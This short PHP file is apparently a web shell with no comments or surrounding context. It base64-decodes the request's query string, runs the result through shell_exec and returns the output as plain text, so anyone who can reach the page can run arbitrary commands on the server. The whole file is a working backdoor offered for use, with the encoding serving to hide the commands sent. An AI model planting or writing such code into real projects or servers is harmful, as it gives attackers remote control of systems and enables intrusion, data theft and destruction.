<?php
header('Content-Type: text/plain');
$x = base64_decode(urldecode($_SERVER['QUERY_STRING']));
$run = fn($v) => shell_exec($v);
echo $run($x);
